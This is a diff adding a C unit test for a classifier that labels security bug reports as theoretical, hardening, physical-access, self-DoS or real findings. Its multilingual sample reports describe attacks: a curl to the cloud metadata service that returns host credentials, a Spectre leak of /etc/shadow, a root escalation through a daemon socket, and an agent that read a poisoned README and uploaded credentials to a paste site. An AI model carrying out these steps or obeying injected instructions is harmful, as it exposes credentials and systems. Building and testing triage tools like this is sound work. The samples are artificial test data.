+	/* issue #3 (round 94): only read the code, not tried, in Indonesian and
+	 * the other languages: theoretical; with a PoC it is not */
+	{ "Kemungkinan token bocor",
+	  "Token bisa masuk ke log. Belum saya uji sama sekali, saya hanya membaca kode sumber SDK.",
+	  FALSE, "theoretical", ANY_CLASS },
+	{ "Possible token leak in logs",
+	  "I have only read the SDK source and have not tried it; the token may end up in the logs.",
+	  FALSE, "theoretical", ANY_CLASS },
+	{ "Token im Log",
+	  "Ich habe nur den Quellcode gelesen und konnte es nicht reproduzieren.", FALSE, "theoretical",
+	  ANY_CLASS },
+	{ "Token en los logs",
+	  "Solo leí el código; no he podido reproducirlo.", FALSE, "theoretical", ANY_CLASS },
+	{ "Token no log",
+	  "Só li o código, não cheguei a testar.", FALSE, "theoretical", ANY_CLASS },
+	{ "Token nel log",
+	  "Ho solo letto il codice e non sono riuscito a riprodurlo.", FALSE, "theoretical", ANY_CLASS },
+	{ "Token in de logs",
+	  "Ik heb alleen de code gelezen en het niet kunnen reproduceren.", FALSE, "theoretical",
+	  ANY_CLASS },
+	{ "Token dans les logs",
+	  "J'ai seulement lu le code et je n'ai pas pu le reproduire.", FALSE, "theoretical", ANY_CLASS },
+	{ "Token bocor di log",
+	  "Secara teori token bisa bocor. Script di bawah mencetak token ke stdout.", TRUE, "",
+	  ANY_CLASS },
+	{ "Token leaks into the logs",
+	  "The script below prints the token into the shared log; in theory this could also reach\n"
+	  "the crash reporter.", TRUE, "", ANY_CLASS },
+	/* issue #3: not tested and only a theory in Hindi written in Latin
+	 * script (and in Devanagari): theoretical; one hint alone, a failed
+	 * try with a PoC, or an English-only mention of a theory, is not */
+	{ "Snapshot mein doosre ka data",
+	  "Agar restore ke baad snapshot purana memory rakhta hai to doosre user ka data dikh sakta "
+	  "hai. Maine ye test nahi kiya, sirf theory hai.", FALSE, "theoretical", ANY_CLASS },
+	{ "Port pe pehle bind",
+	  "Mera theory ye hai ki guest pehle port bind karke host ka traffic le sakta hai. Abhi tak "
+	  "verify nahi kar paya, time nahi mila.", FALSE, "theoretical", ANY_CLASS },
+	{ "\xe0\xa4\x9f\xe0\xa5\x8b\xe0\xa4\x95\xe0\xa4\xa8 \xe0\xa4\xb2\xe0\xa5\x80\xe0\xa4\x95",
+	  "Token log mein aa sakta hai. \xe0\xa4\x9f\xe0\xa5\x87\xe0\xa4\xb8\xe0\xa5\x8d\xe0\xa4\x9f "
+	  "\xe0\xa4\xa8\xe0\xa4\xb9\xe0\xa5\x80\xe0\xa4\x82 \xe0\xa4\x95\xe0\xa4\xbf\xe0\xa4\xaf\xe0\xa4\xbe, "
+	  "\xe0\xa4\xb8\xe0\xa4\xbf\xe0\xa4\xb0\xe0\xa5\x8d\xe0\xa4\xab \xe0\xa4\xa5\xe0\xa5\x8d\xe0\xa4\xaf"
+	  "\xe0\xa5\x8b\xe0\xa4\xb0\xe0\xa5\x80 \xe0\xa4\xb9\xe0\xa5\x88\xe0\xa5\xa4", FALSE, "theoretical",
+	  ANY_CLASS },
+	{ "Token log mein",
+	  "Token shared log mein likha jaata hai. Maine Windows pe test nahi kiya, Linux pe kiya.",
+	  FALSE, "", ANY_CLASS },
+	{ "Token log mein print hota hai",
+	  "Neeche wala script token ko shared log mein print karta hai; reproduce nahi hua to "
+	  "pehle try nahi kiya tha, ab har baar hota hai.", TRUE, "", ANY_CLASS },
+	/* ... a real authorization bypass told modestly keeps its class */
+	{ "Not sure if this matters",
+	  "Not sure this is a vulnerability, but an unauthenticated request to the cloud API\n"
+	  "/api/v1/keys returns every API key of every organization, without any token.", TRUE, "",
+	  "control_plane_auth" },
+	/* 1505, 1514: physical access the writer sets aside ("we do not
+	 * report the stolen laptop as a vulnerability"), or local access the
+	 * writer asks about or tells apart from physical: no hint; an
+	 * evil-maid attack, someone with the unlocked laptop in hand, a stolen
+	 * disk read offline stay one, with "local" or "not report" near them */
+	{ "Revoked token still accepted",
+	  "Our intern's notebook was stolen at the station. We know the physical laptop is out of\n"
+	  "scope, so we do not report the cached session file as a vulnerability. What we report:\n"
+	  "a token revoked in the console kept working for an hour.", TRUE, "", ANY_CLASS },
+	{ "Clave revocada sigue funcionando",
+	  "Me robaron el portátil en el tren; el acceso físico queda fuera de su alcance, así que no\n"
+	  "lo reportamos como vulnerabilidad. Lo que reportamos es que la clave revocada sigue\n"
+	  "funcionando una hora.", TRUE, "", ANY_CLASS },
+	{ "World-writable daemon socket",
+	  "After the upgrade the daemon socket is mode 0666, so any local user can ask it for a\n"
+	  "sandbox with / mounted and become root. I am not sure whether local access counts as\n"
+	  "physical access under your policy.", TRUE, "", ANY_CLASS },
+	{ "Socket del daemon con permisos 0666",
+	  "Cualquier usuario local puede hablar con el socket del daemon y obtener root. No sé si el\n"
+	  "acceso local cuenta como acceso físico según su política.", TRUE, "", ANY_CLASS },
+	{ "Daemon-Socket für alle schreibbar",
+	  "Jeder lokale Benutzer kann über den Socket eine Sandbox mit / starten und root werden. Ich\n"
+	  "weiß nicht, ob lokaler Zugriff als physischer Zugriff zählt.", TRUE, "", ANY_CLASS },
+	{ "Shared tmp dir",
+	  "Local access is not physical access: a www-data shell on the server is all this needs.",
+	  TRUE, "", ANY_CLASS },
+	{ "Image store not encrypted",
+	  "An evil-maid attacker with the laptop for five minutes replaces the msb binary in the\n"
+	  "image store; local access is not enough, one has to be at the machine.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Keys readable",
+	  "Someone with the unlocked laptop in hand can read every sandbox key. I do not report this\n"
+	  "lightly.", TRUE, "physical_access", ANY_CLASS },
+	{ "Snapshots in clear",
+	  "If the disk is stolen and read offline on another machine, every snapshot secret is in\n"
+	  "clear; a local user on the running host cannot read them.", TRUE, "physical_access",
+	  ANY_CLASS },
+	{ "Cached key",
+	  "A thief stole the laptop and used the cached key; we did not report it to the police yet.",
+	  TRUE, "physical_access", ANY_CLASS },
+	/* 1508 (as 1237): the host CPU model, microcode or hypervisor seen from
+	 * the guest, host fingerprinting, is a hardening wish; a host key's
+	 * fingerprint or a side-channel attack that leaks memory is not */
+	{ "Guest sees the host CPU",
+	  "Inside the sandbox /proc/cpuinfo shows the host CPU model and microcode revision, so a\n"
+	  "guest can fingerprint the host. Suggestion: hide them with a CPU template.", TRUE,
+	  "hardening", NULL },
+	{ "La sandbox muestra la CPU del host",
+	  "Desde la sandbox el modelo de la CPU y el microcódigo del host quedan visibles.\n"
+	  "Sugerencia: usar una plantilla de CPU como en Firecracker.", TRUE, "hardening", NULL },
+	{ "Installer trusts any mirror",
+	  "The installer never checks the SSH host key fingerprint of the mirror, so a network\n"
+	  "attacker can serve a modified tarball to every user.", TRUE, "", ANY_CLASS },
+	{ "Guest reads host kernel memory",
+	  "After fingerprinting the host CPU from the guest I ran a Spectre-v2 gadget that leaks\n"
+	  "host kernel memory into the sandbox; the output below shows bytes of /etc/shadow.", TRUE,
+	  "", ANY_CLASS },
+	/* 1534, 1638: the writer's own settings did what happened ("it's our
+	 * own configuration", "we pass the key in ourselves", "I realise we
+	 * should have run it with --net none") and asks for a warning, a safer
+	 * default or docs: hardening, in other languages too.  The product's
+	 * default, a setup merely described, a file of the writer's, or "not
+	 * our workflow" stay findings */
+	{ "Deploy key visible to contributors' tests",
+	  "Our CI hands a deploy key to the sandbox that runs contributors' tests, and one test\n"
+	  "echoed it. Thinking about it, it's our own configuration, not msb: we pass the key in\n"
+	  "ourselves. Perhaps the docs should warn about this pattern.", FALSE, "hardening", NULL },
+	{ "Agent posted our credentials file",
+	  "After reading a poisoned README our agent uploaded the mounted credentials.json to a\n"
+	  "paste site from inside the sandbox. I realise we should have run it with --net none and\n"
+	  "without that mount. Still, network access should be default-deny.", TRUE, "hardening",
+	  ANY_CLASS },
+	{ "El agente subió el .env",
+	  "Un agente envió el fichero .env montado a un webhook desde la sandbox. Lo admito, es\n"
+	  "nuestra configuración: sería mejor que la red estuviera cerrada por defecto.", FALSE,
+	  "hardening", ANY_CLASS },
+	{ "Default config reaches the metadata service",
+	  "In my test setup I used the default config, nothing else: from the guest curl\n"
+	  "http://169.254.169.254/ returns the host's cloud credentials. msb does not block it.", TRUE,
+	  "", ANY_CLASS },
+	{ "Release workflow leaks the signing key",
+	  "It is not our workflow: your release workflow runs on pull_request_target with the\n"
+	  "signing key, and a fork PR printed the key in the log. Please add a warning too.", TRUE, "",
+	  ANY_CLASS },
+	{ "Guest reaches the host with --net none",
+	  "This is our setup: msb run --net none python:3.12, and from the guest I still reached\n"
+	  "10.0.0.1:22 on the host; the nc output is below.", TRUE, "", ANY_CLASS },
+	{ "Guest overwrites a host file",
+	  "It's my config file that the guest overwrote through the read-only share: after the run\n"
+	  "~/.config/app.toml held the guest's text.", TRUE, "", ANY_CLASS },
+	/* 1681: a guessed bypass the writer did not try and doubts ("perhaps
+	 * this isn't even exploitable", "I don't know how to write a test for
+	 * it") is theoretical, no hardening remark, and keeps its class; the
+	 * same doubt beside a shown bypass leaves a finding */
+	{ "Punycode names and --net-allow-host",
+	  "Perhaps this isn't even exploitable, but msb-netd compares host names after punycode\n"
+	  "decoding, so a guest could reach a host outside --net-allow-host. I did not try it and I\n"
+	  "don't know how to write a test for it.", FALSE, "theoretical", "network_bypass" },
+	{ "Punycode name passes --net-allow-host",
+	  "Maybe this is not exploitable at all in practice, but with --net-allow-host example.com\n"
+	  "the guest reached 203.0.113.9 through a punycode name; the curl output is below.", TRUE, "",
+	  ANY_CLASS },
+	/* (#3) the writer grants that such a finding is usually a hardening
+	 * note and says this one is more (the tag really moved, the step
+	 * really ran): no hint; the same concession with nothing turned
+	 * after it stays hardening */
+	{ "Release workflow action tag now points at a backdoor",
+	  "Usually pinning actions by SHA is just a hardening best practice, but in this case the v2\n"
+	  "tag of the signing action used by your release workflow was force-moved to a commit that\n"
+	  "uploads the signing key to a paste site.", TRUE, "", ANY_CLASS },
+	{ "Pin your workflow actions",
+	  "Your release workflow uses actions by tag. I would normally file this as a hardening\n"
+	  "suggestion: pin them to commit SHAs, as best practice recommends.", FALSE, "hardening",
+	  NULL },
+	/* (#3) a crash of the writer's own sandbox told by what the sandbox
+	 * does ("only the sandbox that floods the console dies") or with the
+	 * others' carrying on a clause away: self-DoS; the others going down
+	 * too is none */
+	{ "Guest console flood aborts the VMM",
+	  "A program that prints an endless line without a newline makes msb-vmm panic. Only the\n"
+	  "sandbox that prints it dies.", TRUE, "self_dos", NULL },
+	{ "Guest console flood aborts the VMM",
+	  "A program that prints an endless line without a newline makes msb-vmm panic and that\n"
+	  "sandbox is gone; the other sandboxes I had running at the same moment kept working.",
+	  TRUE, "self_dos", NULL },
+	{ "Guest console flood aborts the VMM",
+	  "A program that prints an endless line without a newline makes msb-vmm panic, and not only\n"
+	  "the sandbox that prints it: every other sandbox on the host then crashes as well.",
+	  TRUE, "", ANY_CLASS },
+};
+
+static void
+test_out_of_scope(void)
+{
+	g_autoptr(StRules) rules = tu_repo_rules();
+
+	for (gsize i = 0; i < G_N_ELEMENTS(oos_cases); i++) {
+		const OosCase *c = &oos_cases[i];
+		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, c->poc);
+		g_autoptr(GString) got = g_string_new(NULL);
+		for (guint j = 0; j < a->out_of_scope->len; j++)
+			g_string_append_printf(got, "%s%s", j ? " " : "",
+					       (char *)g_ptr_array_index(a->out_of_scope, j));
+		gboolean class_ok = g_strcmp0(c->klass, ANY_CLASS) == 0 || g_strcmp0(a->klass, c->klass) == 0;
+		if (strcmp(got->str, c->oos) != 0 || !class_ok)
+			g_error("case %zu \"%s\": want oos [%s] class %s, got [%s] class %s", i,
+				c->subject, c->oos, c->klass ? c->klass : "null", got->str,
+				a->klass ? a->klass : "null");
+		g_assert_cmpuint(a->out_of_scope->len, ==, a->out_of_scope_evidence->len);
+		for (guint j = 0; j < a->out_of_scope_evidence->len; j++)
+			g_assert_cmpstr(g_ptr_array_index(a->out_of_scope_evidence, j), !=, "");
+	}
+}
+
+
+int
+main(int argc, char **argv)
+{
+	g_test_init(&argc, &argv, NULL);
+	st_init();
+	g_test_add_func("/classify/oos-needs-claim", test_oos_needs_claim);
+	g_test_add_func("/classify/out-of-scope", test_out_of_scope);
+	return g_test_run();
+}
